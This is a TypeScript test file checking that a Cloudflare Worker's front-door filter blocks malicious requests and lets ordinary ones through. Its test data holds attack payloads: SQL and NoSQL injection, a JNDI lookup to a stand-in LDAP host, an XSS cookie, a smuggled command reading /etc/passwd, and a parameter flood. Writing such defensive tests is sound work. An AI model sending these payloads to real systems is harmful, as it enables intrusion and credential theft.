import { exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { freshAddress } from "../support/addresses.ts";

const ORIGIN = "https://edge.example";
/** From an address of its own: three attacks put one into a jail. */
function fetchEdge(path: string, init?: RequestInit): Promise<Response> {
  const request = new Request(`${ORIGIN}${path}`, init);
  request.headers.set("CF-Connecting-IP", freshAddress());
  return exports.default.fetch(request);
}

describe("the front door", () => {
  it.each<[string, string, RequestInit?]>([
    ["a query", "/api/health?q=1%27%20or%201=1--"],
    ["a path", "/wp-login.php"],
    ["a header", "/api/health", { headers: { "X-Api-Version": "${jndi:ldap://x.test/a}" } }],
    ["a cookie", "/api/health", { headers: { Cookie: "a=<svg/onload=alert(1)>" } }],
    [
      "a JSON body",
      "/api/confirm",
      {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: '{"wallet":"x;cat /etc/passwd"}',
      },
    ],
    ["a form", "/api/confirm", { method: "POST", body: new URLSearchParams({ "user[$ne]": "x" }) }],
    ["more parameters than are looked at", `/api/health?${"a=b&".repeat(10_001)}`],
  ])("refuses an attack in %s", async (_, path, init) => {
    const response = await fetchEdge(path, init);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({
      status: "error",
      code: "suspicious_content",
      requestId: expect.any(String),
    });
  });

  it("leaves the body readable for the route", async () => {
    const response = await fetchEdge("/api/confirm", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ jwt: "a.b.c", wallet: "x", signature: "y" }),
    });
    expect(await response.json()).not.toMatchObject({ code: "suspicious_content" });
  });

  it("lets ordinary requests through", async () => {
    const response = await fetchEdge("/api/health?from=O%27Brien&note=select+a+plan+from+the+list");
    expect(response.status).toBe(200);
  });

  it("does not judge what Discord signs", async () => {
    const response = await fetchEdge("/interactions", { method: "POST", body: "' or 1=1--" });
    expect(response.status).toBe(401);
  });
});
